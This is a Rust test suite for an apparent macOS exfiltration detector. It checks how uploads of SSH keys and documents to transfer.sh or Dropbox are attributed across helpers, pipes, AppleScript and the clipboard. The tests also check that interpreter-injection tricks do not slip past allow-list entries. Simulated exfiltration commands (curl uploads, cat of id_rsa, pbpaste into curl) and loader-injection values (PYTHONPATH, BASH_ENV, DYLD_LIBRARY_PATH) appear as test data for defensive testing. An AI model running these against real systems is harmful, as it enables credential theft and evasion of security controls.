//! Whose flow it is, where the process that sends is not the one that read.

use std::sync::Arc;

use cloudward::engine::Engine;
use cloudward::model::{Input, Observed, ReasonCode, What};

use super::world::*;

const KEY: &str = "/Users/alice/.ssh/id_rsa";
const DROPBOX: &str = "content.dropboxapi.com";
const NOTES: Program = vendor("/Applications/Acme.app/Contents/MacOS/Acme", "com.acme.notes", "ACME000000");
const HELPER: Program = vendor(
    "/Applications/Acme.app/Contents/Frameworks/Acme Helper.app/Contents/MacOS/Acme Helper",
    "com.acme.notes.helper",
    "ACME000000",
);
const OTHER: Program = vendor("/Applications/Other.app/Contents/MacOS/Other", "com.other.app", "OTHER00000");
const ZSH: Program = apple("/bin/zsh", "com.apple.zsh");
const WEBKIT: Program = apple(
    "/System/Library/Frameworks/WebKit.framework/Versions/A/XPCServices/com.apple.WebKit.Networking.xpc/Contents/MacOS/com.apple.WebKit.Networking",
    "com.apple.WebKit.Networking",
);

fn attribution(told: &Told) -> &'static str {
    told.alert().attribution.as_str()
}

/// An Electron app reads in its main process and sends through its network service, which was there before.
#[test]
fn app_reads_and_its_network_service_sends() {
    let mut w = World::new();
    let main = w.launch(0.0, NOTES, &["Acme"]);
    let network = w.spawn_for(0.5, &main, &main, HELPER, &["Acme Helper", "--type=utility"]);
    w.open(1.0, &main, KEY);
    w.upload(2.0, &network, DROPBOX, 30_000);
    let told = w.tell();
    assert_eq!(attribution(&told), "responsible_process");
    assert_eq!(told.alert().confidence.as_str(), "medium");
}

/// A renderer reads, the main process sends; and one helper reads for another.
#[test]
fn helper_reads_and_the_app_sends() {
    for through_main in [true, false] {
        let mut w = World::new();
        let main = w.launch(0.0, NOTES, &["Acme"]);
        let renderer = w.spawn_for(0.5, &main, &main, HELPER, &["Acme Helper", "--type=renderer"]);
        let network = w.spawn_for(0.6, &main, &main, HELPER, &["Acme Helper", "--type=utility"]);
        w.open(1.0, &renderer, KEY);
        w.upload(2.0, if through_main { &main } else { &network }, DROPBOX, 30_000);
        assert_eq!(attribution(&w.tell()), "responsible_process");
    }
}

/// The network process of WebKit is started by launchd, and the app answers for it.
#[test]
fn webkit_sends_for_an_app() {
    let mut w = World::new();
    let main = w.launch(0.0, NOTES, &["Acme"]);
    let other = w.launch(0.1, OTHER, &["Other"]);
    let network = w.launch_for(0.5, &main, WEBKIT, &["com.apple.WebKit.Networking"]);
    let unrelated = w.launch_for(0.6, &other, WEBKIT, &["com.apple.WebKit.Networking"]);
    w.open(1.0, &main, KEY);
    w.upload(1.5, &unrelated, DROPBOX, 30_000);
    w.tell().none();
    w.upload(3.0, &network, DROPBOX, 30_000);
    assert_eq!(attribution(&w.tell()), "responsible_process");
}

/// A daemon of the system sends for an app, and the capture says for which.
#[test]
fn daemon_sends_on_behalf_of_an_app() {
    let mut w = World::new();
    let main = w.launch(0.0, NOTES, &["Acme"]);
    let daemon = w.launch(0.5, apple("/usr/libexec/nsurlsessiond", "com.apple.nsurlsessiond"), &["n"]);
    w.open(1.0, &main, KEY);
    let mut conn = w.connect_for(2.0, &daemon, &main, DROPBOX);
    let end = w.send(2.1, &mut conn, 30_000);
    w.close(end + 0.1, &mut conn);
    assert_eq!(attribution(&w.tell()), "effective_process");
}

/// The owner itself comes before anybody on whose behalf it may send.
#[test]
fn the_exact_owner_comes_first() {
    let mut w = World::new();
    let main = w.launch(0.0, NOTES, &["Acme"]);
    let x = w.launch(0.5, adhoc("/private/tmp/x", "x"), &["x"]);
    w.open(1.0, &main, KEY);
    w.open(1.1, &x, KEY);
    let mut conn = w.connect_for(2.0, &x, &main, DROPBOX);
    let end = w.send(2.1, &mut conn, 30_000);
    w.close(end + 0.1, &mut conn);
    let told = w.tell();
    assert_eq!(attribution(&told), "process");
    assert_eq!(told.alert().uploader.process().unwrap().info.program.path.to_string(), "/private/tmp/x");
}

/// Two commands of one terminal have nothing to do with each other, whoever is responsible for both.
#[test]
fn one_terminal_is_no_app() {
    let mut w = World::new();
    let terminal = w.launch(
        0.0,
        apple("/System/Applications/Utilities/Terminal.app/Contents/MacOS/Terminal", "com.apple.Terminal"),
        &["Terminal"],
    );
    let shell = w.spawn_for(0.1, &terminal, &terminal, ZSH, &["-zsh"]);
    let python = adhoc("/opt/homebrew/Cellar/python/Python.app/Contents/MacOS/Python", "python3");
    let a = w.spawn_for(1.0, &shell, &terminal, python, &["python3", "a.py"]);
    let b = w.spawn_for(1.1, &shell, &terminal, python, &["python3", "b.py"]);
    w.open(2.0, &a, KEY);
    w.upload(3.0, &b, DROPBOX, 30_000);
    w.tell().none();
}

/// An editor reads a secret; a command in its terminal, started before, uploads something of its own.
#[test]
fn a_command_in_an_editor_is_not_the_editor() {
    let mut w = World::new();
    let editor = w.launch(0.0, NOTES, &["Acme"]);
    let shell = w.spawn_for(0.1, &editor, &editor, ZSH, &["-zsh"]);
    let curl = w.spawn_for(0.5, &shell, &editor, apple("/usr/bin/curl", "com.apple.curl"), &["curl"]);
    w.open(1.0, &editor, "/Users/alice/src/.env");
    w.upload(2.0, &curl, DROPBOX, 30_000);
    w.tell().none();
}

/// A child that was there before the read gets the data through its standard input: nobody else holds the other end.
#[test]
fn m06_through_a_pipe_made_before_the_read() {
    let mut w = World::new();
    let python = w.launch(0.0, adhoc("/opt/homebrew/bin/python3.12", "python3"), &["python3", "x.py"]);
    let child = w.fork(1.0, &python);
    let curl = apple("/usr/bin/curl", "com.apple.curl");
    let env = &["HOME=/Users/alice"];
    let curl =
        w.exec_in(1.01, &child, curl, &["curl", "-T", "-", "https://transfer.sh/"], "null", &[(0, 77)], env);
    w.open(2.0, &python, KEY);
    w.upload(3.0, &curl, "transfer.sh", 5_000);
    let told = w.tell();
    assert!(told.alert().hops.iter().any(|hop| hop.kind.as_str() == "pipe"));
}

/// A pipeline as long as there can be processes: what comes in at one end comes out at the other.
#[test]
fn m07_a_pipeline_of_a_thousand() {
    let mut w = World::new();
    let shell = w.launch(0.0, ZSH, &["-zsh"]);
    let cat = apple("/bin/cat", "com.apple.cat");
    let programs: Vec<Proc> = (0..1000u64)
        .map(|n| {
            let at = 1.0 + n as f64 * 0.001;
            let child = w.fork(at, &shell);
            let ends = [(0, 100 + n), (1, 101 + n)];
            w.exec_in(at + 0.000_5, &child, cat, &["cat"], "null", &ends, &["HOME=/Users/alice"])
        })
        .collect();
    w.open(5.0, &programs[0], KEY);
    w.upload(6.0, &programs[999], "transfer.sh", 5_000);
    w.tell().alert();
}

/// `$(cat key)`: what the child wrote came back to whoever started it.
#[test]
fn m07_command_substitution() {
    let mut w = World::new();
    let python = w.launch(0.0, adhoc("/opt/homebrew/bin/python3.12", "python3"), &["python3", "x.py"]);
    let child = w.fork(1.0, &python);
    let cat = apple("/bin/cat", "com.apple.cat");
    let env = &["HOME=/Users/alice"];
    let cat = w.exec_in(1.01, &child, cat, &["cat", KEY], "null", &[(1, 78)], env);
    w.open(1.1, &cat, KEY);
    w.exit(1.2, &cat);
    w.upload(2.0, &python, "transfer.sh", 5_000);
    w.tell().alert();
}

/// A pipeline whose reader came before its writer does not make the shell a reader.
#[test]
fn m07_twin_the_shell_between_is_no_reader() {
    let mut w = World::new();
    let shell = w.launch(0.0, ZSH, &["-zsh"]);
    let env = &["HOME=/Users/alice"];
    let (a, b) = (w.fork(1.0, &shell), w.fork(1.001, &shell));
    let cat = apple("/bin/cat", "com.apple.cat");
    let cat = w.exec_in(1.01, &a, cat, &["cat", KEY], "null", &[(1, 11)], env);
    w.exec_in(1.02, &b, apple("/usr/bin/wc", "com.apple.wc"), &["wc"], "null", &[(0, 11)], env);
    w.open(1.1, &cat, KEY);
    w.exit(1.2, &cat);
    let curl = w.spawn(5.0, &shell, apple("/usr/bin/curl", "com.apple.curl"), &["curl"]);
    w.upload(5.5, &curl, "transfer.sh", 5_000);
    w.tell().none();
}

const SAFARI: Program = apple("/Applications/Safari.app/Contents/MacOS/Safari", "com.apple.Safari");
const OSASCRIPT: Program = apple("/usr/bin/osascript", "com.apple.osascript");

/// A script makes the Finder copy; what was copied is uploaded by the script's own child.
#[test]
fn m25_finder_copies_for_a_script() {
    let mut w = World::new();
    let tell = "tell application \"Finder\" to duplicate file \"plan.docx\" to folder \"tmp\"";
    let script = w.launch(0.0, OSASCRIPT, &["osascript", "-e", tell]);
    let helper = apple(
        "/System/Library/PrivateFrameworks/DesktopServicesPriv.framework/Versions/A/Resources/DesktopServicesHelper",
        "com.apple.DesktopServicesHelper",
    );
    let helper = w.launch_for(1.0, &script, helper, &["DesktopServicesHelper"]);
    w.open(1.1, &helper, "/Users/alice/Documents/corp/plan.docx");
    w.write(1.2, &helper, "/private/tmp/plan.docx");
    let curl =
        w.spawn(2.0, &script, apple("/usr/bin/curl", "com.apple.curl"), &["curl", "-T", "/tmp/plan.docx"]);
    w.open(2.1, &curl, "/private/tmp/plan.docx");
    w.upload(2.2, &curl, "transfer.sh", 30_000);
    let told = w.tell();
    assert!(
        told.alert()
            .reads
            .iter()
            .any(|read| { read.process.info.program.path.to_string().ends_with("DesktopServicesHelper") })
    );
}

/// A script makes the browser read and send.
#[test]
fn m26_browser_is_told_to_upload() {
    for by_text in [true, false] {
        let mut w = World::new();
        let text = if by_text { "tell application \"Safari\" to activate" } else { "run" };
        let script = w.launch(0.0, OSASCRIPT, &["osascript", "-e", text]);
        let safari = if by_text {
            w.launch(0.1, SAFARI, &["Safari"])
        } else {
            w.launch_for(0.1, &script, SAFARI, &["Safari"])
        };
        w.open(1.0, &safari, "/Users/alice/Documents/corp/plan.docx");
        w.upload(2.0, &safari, DROPBOX, 30_000);
        let told = w.tell();
        assert!(told.low().reasons.iter().any(|reason| reason.code.as_str() == "apple-events"));
    }
}

/// The script itself has read the key; the app that it speaks to sends.
#[test]
fn m26_script_reads_and_the_app_sends() {
    let mut w = World::new();
    let mail = apple("/System/Applications/Mail.app/Contents/MacOS/Mail", "com.apple.mail");
    let mail = w.launch(0.0, mail, &["Mail"]);
    let script =
        w.launch(0.5, OSASCRIPT, &["osascript", "-e", "tell application id \"com.apple.mail\" to send"]);
    w.open(1.0, &script, KEY);
    w.upload(2.0, &mail, DROPBOX, 30_000);
    let told = w.tell();
    assert!(told.low().reasons.iter().any(|reason| reason.code.as_str() == "apple-events"));
    assert_eq!(told.low().attribution.as_str(), "responsible_process");
}

/// The twin of M26: a script speaks to another app.
#[test]
fn m26_twin_another_app_was_told() {
    let mut w = World::new();
    w.launch(0.0, OSASCRIPT, &["osascript", "-e", "tell application \"Music\" to play"]);
    let safari = w.launch(0.1, SAFARI, &["Safari"]);
    w.open(1.0, &safari, "/Users/alice/Documents/corp/plan.docx");
    w.upload(2.0, &safari, DROPBOX, 30_000);
    w.tell().alert();
}

/// An entry that names a script holds while that script runs, and nothing beside it.
#[test]
fn an_entry_for_a_script_is_for_the_script_alone() {
    let told = |line: &str, env: &[&str]| {
        let words: Vec<&str> = line.split(' ').collect();
        let path: &'static str = format!("/usr/bin/{}", words[0]).leak();
        let id: &'static str = format!("com.apple.{}", words[0]).leak();
        let mut w = World::new();
        w.policy = format!(
            "[[allow]]\nname = \"report\"\nprocess = {{ platform = true, signing_id = \"{id}\" }}\n\
             script = \"/opt/corp/report\"\nsensitive = \"*\"\nservices = \"*\"\ntenants = \"*\"\nusers = \"*\"\n\
             reason = \"the nightly report\"\n"
        );
        let shell = w.launch(0.0, apple("/bin/zsh", "com.apple.zsh"), &["-zsh"]);
        let child = w.fork(1.0, &shell);
        let env = [&["HOME=/Users/alice"][..], env].concat();
        let p = w.exec_in(1.1, &child, apple(path, id), &words, "null", &[], &env);
        w.open(2.0, &p, "/Users/alice/.ssh/id_rsa");
        w.upload(3.0, &p, "transfer.sh", 5_000);
        w.tell()
    };
    for (line, env) in [
        ("python3 /opt/corp/report --flag -e x -c y", &[][..]),
        ("perl -w /opt/corp/report -e x", &["PERL5LIB=/opt/corp/lib"]),
        ("bash -eu /opt/corp/report --rcfile x", &["ELECTRON_RUN_AS_NODE=1"]),
    ] {
        told(line, env).none();
    }
    for (line, env) in [
        ("python3 -cevil() /opt/corp/report", &[][..]),
        ("python3 -mevil /opt/corp/report", &[]),
        ("python3 /opt/corp/report", &["PYTHONPATH=/private/tmp"]),
        ("perl -I/tmp -Mevil /opt/corp/report", &[]),
        ("perl /opt/corp/report", &["PERL5OPT=-Mevil"]),
        ("ruby -r/tmp/evil.rb /opt/corp/report", &[]),
        ("php -dauto_prepend_file=/tmp/evil.php /opt/corp/report", &[]),
        ("node --require /tmp/evil.js /opt/corp/report", &[]),
        ("bash --rcfile /opt/corp/report /tmp/evil.sh", &[]),
        ("bash /opt/corp/report", &["BASH_ENV=/tmp/evil.sh"]),
    ] {
        told(line, env).alert();
    }
}

/// What a script holds comes with its exec, and is kept while the engine is saved and resumed.
fn told_of_content(content: Option<[u8; 32]>) -> Told {
    let mut w = World::new();
    let wanted = "07".repeat(32);
    w.policy = format!(
        "[[allow]]\nname = \"report\"\nprocess = {{ platform = true, signing_id = \"com.apple.python3\" }}\n\
         script = \"/opt/corp/report\"\nscript_sha256 = \"{wanted}\"\nsensitive = \"*\"\nservices = \"*\"\n\
         tenants = \"*\"\nusers = \"*\"\nreason = \"the nightly report\"\n"
    );
    let python = apple("/usr/bin/python3", "com.apple.python3");
    let p = w.launch(0.0, python, &["python3", "/opt/corp/report"]);
    let child = w.fork(1.0, &p);
    w.open(2.0, &child, KEY);
    w.upload(3.0, &child, "transfer.sh", 5_000);
    let (policy, (events, capture)) = (compiled(&w.policy), w.recordings());
    let (mut engine, mut records) = (Engine::new(Arc::clone(&policy)), Vec::new());
    for mut input in inputs(&policy, &events, vec![capture]) {
        if let Input::Process(Observed { what: What::Exec { target, facts }, .. }) = &mut input {
            let asked = policy.allow.script_to_read(&target.program, facts);
            assert_eq!(asked, Some("/opt/corp/report".into()));
            facts.script_sha256 = content;
        }
        engine.step(input, &mut records);
        engine = Engine::resume(Arc::clone(&policy), &engine.save()).unwrap();
    }
    engine.finish(&mut records);
    Told { records }
}

#[test]
fn an_entry_for_a_content_is_for_that_content_alone() {
    told_of_content(Some([7; 32])).none();
    for content in [Some([8; 32]), None] {
        let told = told_of_content(content);
        let why = told.alert().reasons.iter().find(|reason| reason.code == ReasonCode::NotAllowed).unwrap();
        let nearest = "no allow entry covers it; nearest is \"report\", but for its script_sha256";
        assert_eq!(why.text, nearest, "{content:?}");
    }
}

/// A signed interpreter is one under any name.
#[test]
fn a_renamed_interpreter_is_not_the_program_that_was_signed() {
    for (program, args, env) in [
        (vendor("/private/tmp/foo", "node", "TEAM123456"), ["foo", "/tmp/evil.js"], "LANG=C"),
        (
            vendor("/Applications/Foo.app/Contents/MacOS/Foo", "com.corp.foo", "TEAM123456"),
            ["Foo", "/tmp/evil.js"],
            "ELECTRON_RUN_AS_NODE=0",
        ),
        (
            vendor("/Applications/Foo.app/Contents/MacOS/Foo", "com.corp.foo", "TEAM123456"),
            ["Foo", "x"],
            "DYLD_LIBRARY_PATH=/tmp/evil",
        ),
    ] {
        let told = |env: &str| {
            let mut w = World::new();
            w.policy = format!(
                "[[allow]]\nname = \"foo\"\nprocess = {{ team_id = \"TEAM123456\", signing_id = \"{}\" }}\n\
                 sensitive = \"*\"\nservices = \"*\"\ntenants = \"*\"\nusers = \"*\"\nreason = \"ours\"\n",
                program.signing_id
            );
            let shell = w.launch(0.0, apple("/bin/zsh", "com.apple.zsh"), &["-zsh"]);
            let child = w.fork(1.0, &shell);
            let p = w.exec_in(1.1, &child, program, &args, "null", &[], &["HOME=/Users/alice", env]);
            w.open(2.0, &p, "/Users/alice/.ssh/id_rsa");
            w.upload(3.0, &p, "transfer.sh", 5_000);
            w.tell()
        };
        told(env).alert();
        if program.signing_id != "node" {
            told("DYLD_LIBRARY_PATH=/Applications/Foo.app/Contents/Frameworks").none();
        }
    }
}

/// By way of the clipboard: what was put there is taken by another. Whether it is the same nobody sees, which is said.
#[test]
fn m45_by_the_clipboard() {
    const PBCOPY: Program = apple("/usr/bin/pbcopy", "com.apple.pbcopy");
    const PBPASTE: Program = apple("/usr/bin/pbpaste", "com.apple.pbpaste");
    for (path, said) in [("/Users/alice/.ssh/id_rsa", true), ("/Users/alice/Pictures/a.txt", false)] {
        let mut w = World::new();
        let shell = w.launch(0.0, apple("/bin/zsh", "com.apple.zsh"), &["-zsh"]);
        let (first, second) = (w.fork(1.0, &shell), w.fork(1.001, &shell));
        let cat = apple("/bin/cat", "com.apple.cat");
        let cat = w.exec_in(1.01, &first, cat, &["cat", path], "null", &[(1, 43)], &[]);
        let copy = w.exec_in(1.011, &second, PBCOPY, &["pbcopy"], "null", &[(0, 43)], &[]);
        w.open(1.02, &cat, path);
        w.exit(1.1, &cat);
        w.exit(1.2, &copy);
        let (first, second) = (w.fork(60.0, &shell), w.fork(60.001, &shell));
        w.exec_in(60.01, &first, PBPASTE, &["pbpaste"], "null", &[(1, 44)], &[]);
        let curl = apple("/usr/bin/curl", "com.apple.curl");
        let curl = w.exec_in(60.011, &second, curl, &["curl", "-d", "@-"], "null", &[(0, 44)], &[]);
        w.upload(60.2, &curl, "transfer.sh", 9_000);
        let told = w.tell();
        told.none();
        let kinds: Vec<_> = told.coverage().iter().map(|blind| blind.kind.as_str()).collect();
        assert_eq!(kinds.contains(&"ipc-possible"), said, "{path}: {kinds:?}");
    }
}
